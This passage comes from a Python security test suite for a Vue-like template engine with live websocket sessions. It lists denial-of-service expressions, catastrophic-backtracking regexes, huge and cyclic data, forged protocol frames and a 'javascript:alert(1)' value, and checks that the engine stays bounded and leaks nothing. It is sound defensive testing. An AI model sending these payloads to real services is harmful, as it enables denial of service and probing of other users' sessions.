    "getter-valueof-chain": "(() => { const o = { valueOf() { return this.n++ < 1e9 ? o + 0 : 0 }, n: 0 }; return o + 1 })()",
    "tostring-join-cycle": "(() => { const a = [1]; a.push(a); return String(a) })()",
    "json-tojson-chain": "JSON.stringify({ toJSON() { return { a: this, b: this } } })",
    "microtask-flood": "(() => { for (let i = 0; i < 10000000; i++) Promise.resolve(i); return 1 })()",
    "then-fanout": "(() => { const p = Promise.resolve(1); for (let i = 0; i < 3000000; i++) p.then(() => 0); return 1 })()",
    "async-fanout": "(async () => { const a = []; for (let i = 0; i < 3000000; i++) a.push((async () => i)()); return 1 })()",
    "class-field-fanout": "(() => { class A { a = Array(999000).fill(0) }; const r = []; for (let i = 0; i < 1000; i++) r.push(new A()); return r.length })()",
    "map-grow": "(() => { const m = new Map(); for (let i = 0; ; i++) m.set(i, i) })()",
    "string-grow-concat": "(() => { let s = 'x'; for (;;) s += s })()",
    "array-grow-push-self": "(() => { let a = [1]; for (;;) a.push(...a) })()",
    "object-key-grow": "(() => { const o = {}; for (let i = 0; ; i++) o['k' + i] = i })()",
    "recursion-valueof": "(() => { const o = { valueOf() { return o + 1 } }; return o + 1 })()",
    "recursion-tojson": "JSON.stringify({ toJSON() { return JSON.stringify(this) } })",
    "recursion-getter-in-json": "JSON.stringify({ get a() { return JSON.stringify(this) } })",
    "recursion-sort-nested": "(function f(n) { return [2, 1].sort(() => f(n + 1)) })(0)",
    "recursion-replace": "(function f(s) { return s.replace(/x/, () => f(s)) })('x')",
    "recursion-promise-then": "(function f() { return Promise.resolve().then(f) })()",
    "recursion-class-ctor": "(() => { class A { constructor() { this.a = new A() } } return new A() })()",
    "recursion-default-param": "(function f(a = f()) { return a })()",
    "recursion-tagged": "(function f() { return f`x` })()",
    "recursion-destructure-default": "(function f({ a = f({}) }) { return a })({})",
}

# data that is large, deep or cyclic, given by the host
class Loop:
    def __init__(self) -> None:
        self.me = self


def _deep_list(depth: int):
    deep: list = []
    for _ in range(depth):
        deep = [deep]
    return deep


def _deep_dict(depth: int):
    deep: dict = {}
    for _ in range(depth):
        deep = {"a": deep}
    return deep


def _cyclic():
    a: list = [1]
    a.append(a)
    d: dict = {"x": 1}
    d["self"] = d
    return {"a": a, "d": d, "loop": Loop()}


DATA_TEMPLATES = {
    "huge-int-display": ("<p>{{ big }}</p>", lambda: {"big": 10 ** 5000}),
    "huge-int-attr": ('<p :title="big">x</p>', lambda: {"big": 10 ** 5000}),
    "huge-int-string": ("<p>{{ String(big) }}</p>", lambda: {"big": 10 ** 5000}),
    "huge-int-vfor": ('<i v-for="i in big">{{ i }}</i>', lambda: {"big": 10 ** 30}),
    "huge-int-math": ("<p>{{ big * big }}</p>", lambda: {"big": 10 ** 4000}),
    "huge-int-json": ("<p>{{ JSON.stringify(big) }}</p>", lambda: {"big": 10 ** 5000}),
    "huge-int-negative": ('<p :title="-big">{{ -big }}</p>', lambda: {"big": 10 ** 400}),
    "huge-int-vtext": ('<p v-text="big"></p>', lambda: {"big": -(10 ** 400)}),
    "huge-int-list": ("<p>{{ [big] }} {{ { big } }}</p>", lambda: {"big": 2 ** 1024}),
    "huge-int-math-fns": ("<p>{{ [Math.max(big, 1), Math.floor(big), Math.hypot(big), Math.cbrt(big)] }}</p>",
                          lambda: {"big": 10 ** 400}),
    "huge-int-number-fns": ("<p>{{ [Number(big), Number.isInteger(big), big.toString(2).length, big.toFixed(1)] }}</p>",
                            lambda: {"big": 10 ** 400}),
    "huge-int-style": ('<p :style="{ width: big + \'px\' }" :class="{ [big]: true }">x</p>', lambda: {"big": 10 ** 400}),
    "huge-int-vmodel": ('<input v-model="big"><input type="number" v-model.number="big">', lambda: {"big": 10 ** 400}),
    "huge-fraction-display": ("<p>{{ f }} {{ f * 2 }}</p>", lambda: {"f": fractions.Fraction(10 ** 400, 3)}),
    "nan-key-object": ("<p>{{ o }}</p>", lambda: {"o": {float("nan"): 1, None: 2, (1, 2): 3}}),
    "deep-list-display": ("<p>{{ deep }}</p>", lambda: {"deep": _deep_list(100000)}),
    "deep-list-string": ("<p>{{ String(deep) }}</p>", lambda: {"deep": _deep_list(100000)}),
    "deep-dict-json": ("<p>{{ JSON.stringify(deep) }}</p>", lambda: {"deep": _deep_dict(100000)}),
    "deep-dict-vbind": ('<p v-bind="deep">x</p>', lambda: {"deep": _deep_dict(100000)}),
    "deep-dict-class": ('<p :class="deep">x</p>', lambda: {"deep": _deep_dict(100000)}),
    "deep-list-flat": ("<p>{{ deep.flat(Infinity).length }}</p>", lambda: {"deep": _deep_list(100000)}),
    "deep-list-includes": ("<p>{{ [deep].includes(1) }}</p>", lambda: {"deep": _deep_list(100000)}),
    "deep-list-vfor": ('<i v-for="x in deep">{{ x }}</i>', lambda: {"deep": _deep_list(100000)}),
    "cyclic-list-display": ("<p>{{ a }}</p>", _cyclic),
    "cyclic-list-string": ("<p>{{ String(a) }}</p>", _cyclic),
    "cyclic-dict-display": ("<p>{{ d }}</p>", _cyclic),
    "cyclic-object-display": ("<p>{{ loop }}</p>", _cyclic),
    "cyclic-object-json": ("<p>{{ JSON.stringify(loop) }}</p>", _cyclic),
    "cyclic-vbind": ('<p v-bind="d">x</p>', _cyclic),
    "cyclic-class": ('<p :class="[a, a]">x</p>', _cyclic),
    "cyclic-flat": ("<p>{{ a.flat(Infinity).length }}</p>", _cyclic),
    "cyclic-sort": ("<p>{{ [a, a].sort().length }}</p>", _cyclic),
    "cyclic-join": ("<p>{{ a.join() }}</p>", _cyclic),
    "many-keys-vfor": ('<i v-for="(v, k) in o"></i>', lambda: {"o": {f"k{i}": i for i in range(30000)}}),
    "shared-list-display": ("<p>{{ o }}</p>", lambda: {"o": _shared(22)}),
    "shared-list-string": ("<p>{{ String(o) }}</p>", lambda: {"o": _shared(22)}),
    "shared-list-flat": ("<p>{{ o.flat(Infinity).length }}</p>", lambda: {"o": _shared(22)}),
    "shared-list-class": ('<p :class="o">x</p>', lambda: {"o": _shared(22)}),
    "shared-list-style": ('<p :style="o">x</p>', lambda: {"o": _shared(22)}),
    "shared-list-vmodel": ('<select multiple v-model="o"><option>1</option></select>', lambda: {"o": _shared(22)}),
    "shared-string-join": ("<p>{{ s.join('').length }}</p>", lambda: {"s": ["x" * 999000] * 1000}),
    "shared-string-display": ("<p>{{ s }}</p>", lambda: {"s": ["x" * 999000] * 1000}),
    "shared-string-class": ('<p :class="s">x</p>', lambda: {"s": ["x" * 999000] * 1000}),
    "bytes-ljust": ("<p>{{ b.ljust(500000000).length }}</p>", lambda: {"b": b"x"}),
    "bytearray-doubling": ("<p>{{ (() => { for (let i = 0; i < 40; i++) b.extend(b); return 1 })() }}</p>", lambda: {"b": bytearray(b"xy")}),
    "datetime-strftime": ("<p>{{ d.strftime('%c'.repeat(499000)).length }}</p>", lambda: {"d": datetime.datetime(2020, 1, 1)}),
    # the same classes by other entry points: class/style normalisation of shared data ...
    "shared-list-class-static": ('<p class="a" :class="o">x</p>', lambda: {"o": _shared(22)}),
    "shared-list-vbind-class": ('<p v-bind="{ class: o }">x</p>', lambda: {"o": _shared(22)}),
    "shared-dict-class": ('<p :class="o">x</p>', lambda: {"o": [{f"k{i}": 1 for i in range(1000)}] * 100000}),
    "shared-style-value": ('<p :style="{ color: o }">x</p>', lambda: {"o": _shared(22)}),
    "shared-style-nested": ('<p :style="[o, [o]]">x</p>', lambda: {"o": _shared(21)}),
    "shared-string-style": ('<p :style="s">x</p>', lambda: {"s": ["color: red;" + "x" * 999000] * 1000}),
    "expr-shared-class": ("<p :class=\"Array(1000).fill('x'.repeat(999000))\">x</p>", lambda: {}),
    "cyclic-style": ('<p :style="[a]">x</p>', _cyclic),
    # ... and results of host methods, however they are called
    "date-strftime": ("<p>{{ d.strftime('%A'.repeat(499000)).length }}</p>", lambda: {"d": datetime.date(2020, 1, 1)}),
    "time-strftime": ("<p>{{ t.strftime('%X'.repeat(499000)).length }}</p>", lambda: {"t": datetime.time(1, 2)}),
    "host-fn-string": ("<p>{{ pad(2000000).length }}</p>", lambda: {"pad": lambda n: "x" * n}),
    "host-fn-list": ("<p>{{ rows(2000000).length }}</p>", lambda: {"rows": lambda n: [0] * n}),
    "host-callback-string": ("<p>{{ [2000000].map(pad)[0].length }}</p>", lambda: {"pad": lambda n, *_: "x" * n}),
    "host-method-strftime-call": ("<p>{{ d.strftime.call(d, '%c'.repeat(499000)).length }}</p>",
                                  lambda: {"d": datetime.datetime(2020, 1, 1)}),
}


def _shared(depth: int):
    """A list of 2**depth leaves built from `depth` shared pairs (a few hundred bytes)."""
    node: list = ["x"]
    for _ in range(depth):
        node = [node, node]
    return node


# these may end with JavaScript's own answer (Infinity, a wrap, a cycle shown as ''):
# they must end, either way, never with a raw Python error or a hang
LIMIT_ENDS_EITHER_WAY = {
    "shift-huge", "int-mul-chain", "date-year-huge", "date-utc-huge", "tostring-join-cycle", "json-parse-bigint",
    "json-parse-exponent", "parseint-binary", "number-hex", "number-binary", "tostring-radix-float",
    "sort-inconsistent", "date-locale-huge", "display-shared", "pad-expansion", "json-tojson-chain", "recursion-tojson",
    "recursion-promise-then", "deep-list-flat", "cyclic-list-display", "cyclic-dict-display", "cyclic-object-display",
    "cyclic-object-json", "shared-list-vmodel", "nan-key-object", "cyclic-list-string", "cyclic-join",
    "huge-int-display", "huge-int-attr", "huge-int-string", "huge-int-math", "huge-int-json", "cyclic-sort",
    "huge-int-negative", "huge-int-vtext", "huge-int-list", "huge-int-math-fns", "huge-int-number-fns", "huge-int-style",
    "huge-int-vmodel", "huge-fraction-display", "cyclic-style",
    "array-length-assign", "array-index-far", "sort-comparator-mutates", "tolocale-digits", "intl-format-huge",
    "cyclic-class", "cyclic-flat", "deep-list-includes", "many-keys-vfor", "upper-expansion", "matchall-groups",
    "split-regex-groups", "escape-expansion", "array-fill-far", "structured-keys", "entries-string",
    "deep-list-vfor", "deep-dict-class", "cyclic-vbind", "deep-dict-vbind",
    "bytes-ljust", "bytearray-doubling",  # refused: raw bytes are opaque (no Python methods)
}


def _limit_attacks() -> list[Attack]:
    out = []
    for key, expr in LIMIT_EXPRESSIONS.items():
        must = "safe" if key in LIMIT_ENDS_EITHER_WAY else "limit"
        out.append(Attack(f"c5-out-expr-{key}", 5, expr, path="expr", must=must, data={}))
    for key in ("replace-expansion", "join-shared", "display-shared", "tofixed-digits", "microtask-flood",
                "recursion-valueof", "recursion-tojson", "getter-valueof-chain"):
        expr = LIMIT_EXPRESSIONS[key].replace("<", "&lt;")
        must = "safe" if key in LIMIT_ENDS_EITHER_WAY else "limit"
        out.append(Attack(f"c5-out-render-{key}", 5, f"<p>{{{{ {expr} }}}}</p>", must=must, data={}))
        out.append(Attack(f"c5-out-mount-{key}", 5, f'<p :title="{_attr(LIMIT_EXPRESSIONS[key])}">x</p>', path="mount",
                          must=must, data={}))
    for key, (template, data) in DATA_TEMPLATES.items():
        must = "safe" if key in LIMIT_ENDS_EITHER_WAY else "limit"
        out.append(Attack(f"c5-out-data-{key}", 5, template, data=data, must=must))
        out.append(Attack(f"c5-out-data-{key}-mount", 5, template, data=data, must=must, path="mount"))
    return out


# run in a child process: they never end when they succeed
RUNAWAY = {
    "regex-backref-poly": ("/^(a+)\\1*b/.test('a'.repeat(20000))", None),
    "regex-lookbehind-poly": ("/(?<=a*)b/.test('a'.repeat(20000))", None),
    "regex-class-overlap": ("/^([a-z]|[a-c])+$/.test('a'.repeat(40) + '!')", None),
    "regex-case-overlap": ("/^(a|A)+$/i.test('a'.repeat(40) + '!')", None),
    "regex-unicode-overlap": ("/^(\\w|\\d)+$/u.test('1'.repeat(40) + '!')", None),
    "regex-dot-overlap": ("/^(.|\\s)+$/.test(' '.repeat(40) + '\\n')", None),
    "regex-sticky-loop": ("(() => { const r = /a*a*b/y; const s = 'a'.repeat(800); let n = 0; for (let i = 0; i < 800; i++) { r.lastIndex = i; r.test(s) && n++ } return n })()", None),
    "regex-global-exec-loop": ("(() => { const r = /a*a*b/g; const s = 'a'.repeat(800); let n = 0; while (r.exec(s) && n < 1e9) n++; for (let i = 0; i < 10000; i++) s.search(/a*a*b/); return n })()", None),
    "regex-from-data-class": ("new RegExp(p).test(s)", {"p": "^([a-z]|[a-c])+$", "s": "a" * 40 + "!"}),
    "regex-from-data-escape": ("new RegExp(p, 'i').test(s)", {"p": "^(\\x61|a)+$", "s": "a" * 40 + "!"}),
    "regex-split-poly": ("'a'.repeat(20000).split(/a*?a*?b/).length", None),
    "regex-many-searches": ("(() => { const s = 'a'.repeat(799); for (let i = 0; i < 100000; i++) /a*a*b/.test(s); return 1 })()", None),
    "promise-then-self": ("(() => { let p = Promise.resolve(); const f = () => { p = p.then(f) }; f(); return 1 })()", None),
    "async-loop-await": ("(async () => { for (;;) await 0 })()", None),
    "async-mutual": ("(() => { const a = async () => b(); const b = async () => { await null; return a() }; a(); return 1 })()", None),
    "getter-infinite-display": ("({ get a() { return { get a() { return this } } } })", None),
}


# -- class 6: hand-made live protocol messages ------------------------------------------------
LIVE_PAGE = """
<div v-scope>
  <button class="ok" @click="hits.push('ok')">ok</button>
  <button class="once" @click.once="hits.push('once')">once</button>
  <div inert><button class="inert" @click="hits.push('inert')">inert</button></div>
  <div :inert="true"><button class="inert-bound" @click="hits.push('inert-bound')">inert</button></div>
  <input class="max" maxlength="3" v-model="short">
  <input class="num" type="number" v-model="num">
  <input class="color" type="color" v-model="color">
  <input class="range" type="range" min="0" max="10" v-model="range">
  <select class="pick" v-model="pick"><option>a</option><option>b</option></select>
  <textarea class="rota" readonly v-model="ro"></textarea>
  <input class="hid" type="hidden" v-model="ro">
  <button class="boom" @click="explode()">boom</button>
  <p class="mine" @click="hits.push('p')">{{ secret_shown }}</p>
  <button class="evented" @custom-thing="hits.push('custom')">c</button>
  <button class="mounted" @vue:unmounted="hits.push('unmounted')">m</button>
</div>
"""


def _live_data():
    def explode():
        raise ValueError(SECRET)

    return {"hits": [], "short": "abc", "num": "1", "color": "#000000", "range": "5", "pick": "a", "ro": "r",
            "secret_shown": "mine", "explode": explode}


def _live_case(fn):
    def run():
        from .._live import Live

        live = Live(LIVE_PAGE, data=_live_data)
        try:
            fn(live)
            _still_works(live)
        finally:
            live.close()

    return run


def _element(live, cls):
    from .._live import find, walk

    tag = next(tag for _, tag, attrs, _, _ in walk(live.init["tree"]) if attrs.get("class") == cls)
    return find(live.init, tag, **{"class": cls})


def _event(live, cls, kind="click", **extra):
    node = _element(live, cls)
    message = {"t": "event", "seq": 1, "node": node, "target": node, "type": kind, "init": {}}
    message.update(extra)
    return live.send(json.dumps(message))


def _still_works(live) -> None:
    before = len(live.state()["hits"])
    live.seq = max(live.seq, 10**6)
    replies = _event(live, "ok")
    assert replies[-1]["t"] == "ack", replies
    assert len(live.state()["hits"]) == before + 1


def _nothing_ran(*allowed):
    def check(live, replies):
        assert all(SECRET not in json.dumps(r) for r in replies)
        assert [h for h in live.state()["hits"] if h not in allowed] == [], live.state()["hits"]

    return check


def _event_case(cls, kind="click", check=None, **extra):
    def fn(live):
        replies = _event(live, cls, kind, **extra)
        (check or _nothing_ran())(live, replies)

    return _live_case(fn)


def _state_case(cls, kind, state, field, expected):
    def fn(live):
        replies = _event(live, cls, kind, state=state)
        assert all(SECRET not in json.dumps(r) for r in replies)
        assert live.state()[field] == expected, f"{field} became {live.state()[field]!r}"

    return _live_case(fn)


def _once_twice(live):
    _event(live, "once")
    _event(live, "once")
    assert live.state()["hits"].count("once") == 1, live.state()["hits"]


def _raw(text_or_bytes, *, expect_reply=True):
    def fn(live):
        if isinstance(text_or_bytes, bytes):
            live.ws.send_bytes(text_or_bytes)
        else:
            live.ws.send_text(text_or_bytes)
        if expect_reply:
            from .._live import receive

            reply = receive(live.ws)
            while reply["t"] == "patch":
                reply = receive(live.ws)
            assert reply["t"] in ("ack", "error"), reply
            assert SECRET not in json.dumps(reply)
        assert live.state()["hits"] == [], live.state()["hits"]

    return _live_case(fn)


def _hello_case(hello):
    """A hand-made hello on a fresh socket: refused or accepted, never a server error."""

    def run():
        from starlette.testclient import TestClient

        from petite.live import LiveApp

        from .._live import ORIGIN, open_page, receive

        app = LiveApp(LIVE_PAGE, data=_live_data)
        client = TestClient(app)
        token = open_page(client)
        message = hello(token)
        with client.websocket_connect("/ws", headers=ORIGIN) as ws:
            ws.send_text(message if isinstance(message, str) else json.dumps(message))
            reply = receive(ws)
            assert reply["t"] in ("init", "expired"), reply
            assert SECRET not in json.dumps(reply)
        return reply["t"]

    return run


def _seen_case(seen):
    """An event whose `seen` (batches the client applied) is forged: the value written
    is the client's text, nothing else runs, no other value leaks."""

    def fn(live):
        replies = _event(live, "max", "input", state={"value": "ab"}, seen=seen)
        assert all(SECRET not in json.dumps(r) for r in replies)
        assert live.state()["short"] in ("ab", "abc"), live.state()["short"]

    return _live_case(fn)


def _many_sockets():
    """Fifty sockets on one page's token, one after another: each replaces the last,
    one session only, and the last still answers."""
    from starlette.testclient import TestClient

    from petite.live import LiveApp

    from .._live import connect, open_page, receive

    app = LiveApp(LIVE_PAGE, data=_live_data)
    client = TestClient(app)
    token = open_page(client)
    for _ in range(50):
        with connect(client, token) as ws:
            assert receive(ws)["t"] == "init"
    assert len(app.sessions) == 1, len(app.sessions)


def _session_crossing(live):
    """A second page's token names another session: an event with that session's node
    ids must not reach it (ids are per session)."""
    from .._live import connect, open_page, receive

    mine = live.state()
    token = open_page(live.client)
    with connect(live.client, token) as other:
        init = receive(other)
        assert init["t"] == "init"
        theirs = [s for s in live.app.sessions.values() if s.app.state is not mine]
        assert theirs
        for node in range(0, 120):
            live.ws.send_text(json.dumps({"t": "event", "seq": 5000 + node, "node": node, "target": node,
                                          "type": "click", "init": {}}))
        answered = 0
        while answered < 120:
            reply = receive(live.ws)
            if reply["t"] in ("ack", "error"):
                answered += 1
        for session in theirs:
            assert session.app.state["hits"] == [], session.app.state["hits"]
    live.seq = 10**6


def _live_attacks() -> list[Attack]:
    out = []

    def add(id, run):
        out.append(Attack(f"c6-out-{id}", 6, path="custom", run=run, must="renders"))

    add("once-twice", _live_case(_once_twice))
    add("inert-static", _event_case("inert"))
    add("inert-bound", _event_case("inert-bound"))
    add("maxlength", _state_case("max", "input", {"value": "x" * 5000}, "short", "abc"))
    add("number-text", _state_case("num", "input", {"value": "not a number"}, "num", "1"))
    add("color-text", _state_case("color", "input", {"value": "javascript:alert(1)"}, "color", "#000000"))
    add("range-outside", _state_case("range", "input", {"value": "1e308"}, "range", "5"))
    add("select-value-forged", _state_case("pick", "change", {"value": "admin"}, "pick", "a"))
    add("select-selected-forged-length", _state_case("pick", "change", {"selected": [False, False, True]}, "pick", "a"))
    add("select-checked", _state_case("pick", "change", {"checked": True}, "pick", "a"))
    add("textarea-readonly-static", _state_case("rota", "input", {"value": "owned"}, "ro", "r"))
    add("hidden-input", _state_case("hid", "input", {"value": "owned"}, "ro", "r"))
    add("value-on-paragraph", _state_case("mine", "click", {"value": "owned"}, "ro", "r"))
    add("custom-event-from-client", _event_case("evented", "custom-thing", check=_nothing_ran("custom")))
    add("vue-unmounted-from-client", _event_case("mounted", "vue:unmounted"))
    add("type-with-modifier-text", _event_case("once", "click.once"))
    add("capture-string", _event_case("once", capture="yes", check=_nothing_ran("once")))
    add("init-huge-detail", _event_case("ok", init={"detail": 10**400}, check=_nothing_ran("ok")))
    add("init-nan", _event_case("ok", init={"detail": float("inf"), "button": float("nan")}, check=_nothing_ran("ok")))
    add("init-key-long", _event_case("ok", init={"key": "k" * 60000}, check=_nothing_ran("ok")))
    add("init-nested", _event_case("ok", init={"key": {"toString": "x"}}, check=_nothing_ran("ok")))
    add("state-huge-selected", _state_case("pick", "change", {"selected": [True] * 50000}, "pick", "a"))
    for key, seen in {"negative": -10**9, "huge": 10**30, "string": "all", "float": 1.5, "list": [1], "bool": True}.items():
        add(f"seen-{key}", _seen_case(seen))
    for key, frame in {
        "binary-json": json.dumps({"t": "event", "seq": 1, "node": 1, "type": "click"}).encode(),
        "binary-garbage": b"\xff\xfe\x00" * 100,
        "binary-empty": b"",
        "seq-negative": json.dumps({"t": "event", "seq": -(10**30), "node": 1, "type": "click"}),
        "seq-string": json.dumps({"t": "event", "seq": "1", "node": 1, "type": "click"}),
        "message-huge-array": json.dumps({"t": "event", "seq": 1, "node": 1, "type": "click", "init": [0] * 9000}),
        "event-no-node": json.dumps({"t": "event", "seq": 1, "type": "click"}),
        "t-hello-again": json.dumps({"t": "hello", "token": "x" * 900, "seen": -1}),
        "t-resume": json.dumps({"t": "resume", "seq": 1}),
        "t-object": json.dumps({"t": {"event": 1}, "seq": 1}),
        "bom-json": "\ufeff" + json.dumps({"t": "event", "seq": 1, "node": 1, "type": "click"}),
        "json-float-seq": json.dumps({"t": "event", "seq": 1e308, "node": 1, "type": "click"}),
    }.items():
        add(f"frame-{key}", _raw(frame))
    add("hello-oversized", _hello_case(lambda token: {"t": "hello", "token": token, "pad": "x" * 2000}))
    add("hello-seen-negative", _hello_case(lambda token: {"t": "hello", "token": token, "seen": -5}))
    add("hello-seen-huge", _hello_case(lambda token: {"t": "hello", "token": token, "seen": 10**40}))
    add("hello-seen-string", _hello_case(lambda token: {"t": "hello", "token": token, "seen": "x"}))
    add("hello-token-object", _hello_case(lambda token: {"t": "hello", "token": {"id": 1}}))
    add("hello-token-list", _hello_case(lambda token: {"t": "hello", "token": [token]}))
    add("hello-not-object", _hello_case(lambda token: json.dumps([token])))
    add("hello-deep", _hello_case(lambda token: "[" * 500 + "]" * 500))
    add("many-sockets", _many_sockets)
    add("session-crossing", _live_case(_session_crossing))
    return out


ATTACKS = (_loader_attacks() + _codegen_attacks() + _cli_attacks() + _sandbox_attacks() + _integration_attacks()
           + _limit_attacks() + _live_attacks())
